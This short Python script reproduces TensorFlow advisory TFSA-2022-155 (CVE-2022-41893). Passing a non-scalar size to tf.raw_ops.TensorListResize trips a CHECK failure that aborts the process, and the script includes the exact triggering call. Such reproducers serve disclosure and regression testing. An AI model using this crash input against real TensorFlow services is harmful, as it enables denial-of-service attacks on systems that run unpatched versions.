"""TFSA-2022-155 (CVE-2022-41893): tf.raw_ops.TensorListResize with a `size` that is not a
scalar CHECK-fails in its kernel (`Check failed: 1 == NumElements()`) and aborts the process.
Fixed in TensorFlow 2.8.4, 2.9.3, 2.10.1 and 2.11.0; 2.10.0 still crashes.
"""

import numpy as np
import tensorflow as tf

handle = tf.raw_ops.TensorListFromTensor(tensor=tf.constant([3, 4, 5]), element_shape=tf.constant([], dtype=tf.int32))
tf.raw_ops.TensorListResize(input_handle=handle, size=np.zeros([0, 2, 3, 3], dtype=np.int32))  # <- crash call site
print("unreachable")
